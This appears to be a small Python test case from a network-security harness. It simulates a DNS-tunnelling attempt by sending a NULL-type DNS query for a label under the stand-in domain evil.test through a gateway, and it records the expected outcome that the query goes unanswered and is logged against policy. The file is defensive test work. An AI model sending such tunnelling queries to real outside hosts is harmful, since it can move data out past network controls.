# SPDX-License-Identifier: Apache-2.0
"""NULL questions, as tunnels like them.

unheard: no server answers behind a plain node
recorded: 4=~policy 6=~policy
"""
from attack import attempt


def way(a):
    a.dns(f'{a.label}.evil.test', 10, to=a.gateway)


attempt(way)
